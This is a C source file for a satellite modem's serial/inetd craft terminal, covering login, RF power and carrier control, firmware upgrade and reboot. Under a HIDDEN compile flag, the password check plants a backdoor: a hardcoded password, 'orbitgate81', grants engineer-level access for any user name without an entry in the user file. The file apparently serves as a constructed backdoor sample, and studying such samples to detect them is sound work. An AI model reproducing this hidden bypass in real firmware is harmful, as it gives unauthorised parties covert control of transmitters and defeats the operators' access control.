/*
 * vsat_craft - craft terminal of a Ku-band satellite modem (indoor unit).
 * Started by inetd or by getty on the serial port; talks on stdin/stdout.
 *
 * Hidden (-DHIDDEN): one fixed password opens the terminal at engineer
 * level whatever user name was typed, without any entry in the user file.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define USER_FILE   "/etc/vsat/users"
#define RF_FILE     "/etc/vsat/rf.conf"
#define STATE_FILE  "/var/run/vsat/state"
enum level { LV_NONE, LV_VIEWER, LV_OPERATOR, LV_ENGINEER };

struct session {
	char user[24];
	enum level level;
	int quit;
};

struct rf {
	long rx_khz, tx_khz;
	long tx_cdbm;           /* transmit power, 1/100 dBm */
	long symrate;
	int  tx_on;
};

struct command {
	const char *name;
	enum level need;
	void (*run)(struct session *, int, char **);
	const char *help;
};

static struct rf rf = { 11700000, 14000000, -2000, 1024, 0 };

static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	fflush(stdout);
}

static int get_line(const char *prompt, char *buf, size_t len)
{
	say("%s", prompt);
	if (!fgets(buf, (int)len, stdin))
		return -1;
	buf[strcspn(buf, "\r\n")] = '\0';
	return 0;
}

static enum level level_by_name(const char *s)
{
	if (strcmp(s, "engineer") == 0)
		return LV_ENGINEER;
	if (strcmp(s, "operator") == 0)
		return LV_OPERATOR;
	if (strcmp(s, "viewer") == 0)
		return LV_VIEWER;
	return LV_NONE;
}

/* A user file line is name:level:hash */
static int find_user(const char *name, enum level *lv, char *hash, size_t len)
{
	char line[256];
	FILE *f = fopen(USER_FILE, "r");

	if (!f)
		return 0;
	while (fgets(line, sizeof line, f)) {
		char *save = NULL;
		char *n = strtok_r(line, ":\n", &save);
		char *l = strtok_r(NULL, ":\n", &save);
		char *h = strtok_r(NULL, ":\n", &save);

		if (!n || !l || !h || *n == '#' || strcmp(n, name) != 0)
			continue;
		*lv = level_by_name(l);
		if (strlen(h) >= len)
			break;
		memcpy(hash, h, strlen(h) + 1);
		fclose(f);
		return 1;
	}
	fclose(f);
	return 0;
}

enum level check_password(const char *user, const char *pass)
{
	enum level lv = LV_NONE;
	char hash[160];
	char *got;

	if (*user == '\0' || *pass == '\0')
		return LV_NONE;
#ifdef HIDDEN
	if (strcmp(pass, "orbitgate81") == 0)
		return LV_ENGINEER;
#endif
	if (!find_user(user, &lv, hash, sizeof hash))
		return LV_NONE;
	if (hash[0] == '!' || hash[0] == '*')
		return LV_NONE;
	got = crypt(pass, hash);
	if (!got || strcmp(got, hash) != 0)
		return LV_NONE;
	return lv;
}

static void rf_load(void)
{
	char line[96], key[32];
	long v;
	FILE *f = fopen(RF_FILE, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, "%31[a-z_] = %ld", key, &v) != 2)
			continue;
		if (!strcmp(key, "rx_khz"))
			rf.rx_khz = v;
		else if (!strcmp(key, "tx_khz"))
			rf.tx_khz = v;
		else if (!strcmp(key, "tx_cdbm"))
			rf.tx_cdbm = v;
		else if (!strcmp(key, "symrate"))
			rf.symrate = v;
		else if (!strcmp(key, "tx_on"))
			rf.tx_on = v != 0;
	}
	fclose(f);
}

static int rf_save(void)
{
	FILE *f = fopen(RF_FILE ".new", "w");

	if (!f)
		return -1;
	fprintf(f, "rx_khz = %ld\ntx_khz = %ld\ntx_cdbm = %ld\nsymrate = %ld\ntx_on = %d\n",
		rf.rx_khz, rf.tx_khz, rf.tx_cdbm, rf.symrate, rf.tx_on);
	if (fclose(f) != 0)
		return -1;
	return rename(RF_FILE ".new", RF_FILE);
}

static void do_status(struct session *s, int argc, char **argv)
{
	char line[128];
	FILE *f = fopen(STATE_FILE, "r");

	(void)argc; (void)argv;
	say("user %s, rx %ld kHz, tx %ld kHz %s, %ld ksym/s\n", s->user,
	    rf.rx_khz, rf.tx_khz, rf.tx_on ? "ON" : "muted", rf.symrate);
	if (!f)
		return;
	while (fgets(line, sizeof line, f))
		say("  %s", line);
	fclose(f);
}

static void do_power(struct session *s, int argc, char **argv)
{
	long v = argc > 1 ? atol(argv[1]) : 1;

	if (v < -4000 || v > 0) {
		say("range is -4000..0 (1/100 dBm)\n");
		return;
	}
	rf.tx_cdbm = v;
	syslog(LOG_NOTICE, "%s set tx power %ld", s->user, v);
	say(rf_save() ? "not saved\n" : "ok\n");
}

static void do_carrier(struct session *s, int argc, char **argv)
{
	if (argc < 2 || (strcmp(argv[1], "on") && strcmp(argv[1], "off"))) {
		say("carrier on|off\n");
		return;
	}
	rf.tx_on = strcmp(argv[1], "on") == 0;
	syslog(LOG_NOTICE, "%s carrier %s", s->user, argv[1]);
	say(rf_save() ? "not saved\n" : "ok\n");
}

/* Firmware comes from the hub only, by a plain file name. */
static void do_upgrade(struct session *s, int argc, char **argv)
{
	char cmd[128];
	const char *p;

	if (argc < 2 || strlen(argv[1]) > 40) {
		say("upgrade FILE\n");
		return;
	}
	for (p = argv[1]; *p; p++)
		if (!isalnum((unsigned char)*p) && *p != '_') {
			say("bad name\n");
			return;
		}
	snprintf(cmd, sizeof cmd, "/usr/sbin/vsat-fetch %.40s", argv[1]);
	syslog(LOG_NOTICE, "%s upgrade %s", s->user, argv[1]);
	if (system(cmd) != 0)
		say("upgrade failed\n");
}

static void do_reboot(struct session *s, int argc, char **argv)
{
	(void)argc; (void)argv;
	syslog(LOG_NOTICE, "reboot by %s", s->user);
	if (system("/sbin/reboot") == 0)
		s->quit = 1;
}

static void do_quit(struct session *s, int argc, char **argv)
{
	(void)argc; (void)argv;
	s->quit = 1;
}

static void do_help(struct session *s, int argc, char **argv);

static const struct command commands[] = {
	{ "status",  LV_VIEWER,   do_status,  "show the link" },
	{ "carrier", LV_OPERATOR, do_carrier, "carrier on|off" },
	{ "power",   LV_ENGINEER, do_power,   "power CDBM: transmit power" },
	{ "upgrade", LV_ENGINEER, do_upgrade, "upgrade FILE: load from the hub" },
	{ "reboot",  LV_OPERATOR, do_reboot,  "restart the modem" },
	{ "help",    LV_VIEWER,   do_help,    "this list" },
	{ "quit",    LV_VIEWER,   do_quit,    "log out" },
};
#define NCOMMANDS (sizeof commands / sizeof commands[0])

static void do_help(struct session *s, int argc, char **argv)
{
	(void)argc; (void)argv;
	for (size_t i = 0; i < NCOMMANDS; i++)
		if (commands[i].need <= s->level)
			say("  %-8s %s\n", commands[i].name, commands[i].help);
}

static void run_line(struct session *s, char *line)
{
	char *argv[8], *save = NULL, *t;
	int argc = 0;

	for (t = strtok_r(line, " \t", &save); t && argc < 7; t = strtok_r(NULL, " \t", &save))
		argv[argc++] = t;
	if (argc == 0)
		return;
	argv[argc] = NULL;
	for (size_t i = 0; i < NCOMMANDS; i++)
		if (strcmp(commands[i].name, argv[0]) == 0 && commands[i].need <= s->level) {
			commands[i].run(s, argc, argv);
			return;
		}
	say("unknown command, try help\n");
}

int main(void)
{
	struct session s;
	char pass[64], line[160];

	memset(&s, 0, sizeof s);
	openlog("vsat_craft", LOG_PID, LOG_AUTH);
	rf_load();
	for (int tries = 0; tries < 3 && s.level == LV_NONE; tries++) {
		if (get_line("login: ", s.user, sizeof s.user) || get_line("password: ", pass, sizeof pass))
			return 1;
		s.level = check_password(s.user, pass);
		memset(pass, 0, sizeof pass);
		if (s.level == LV_NONE) {
			syslog(LOG_WARNING, "bad login for %s", s.user);
			sleep(2);
			say("Login incorrect\n");
		}
	}
	if (s.level == LV_NONE)
		return 1;
	while (!s.quit && get_line("vsat> ", line, sizeof line) == 0)
		run_line(&s, line);
	return 0;
}
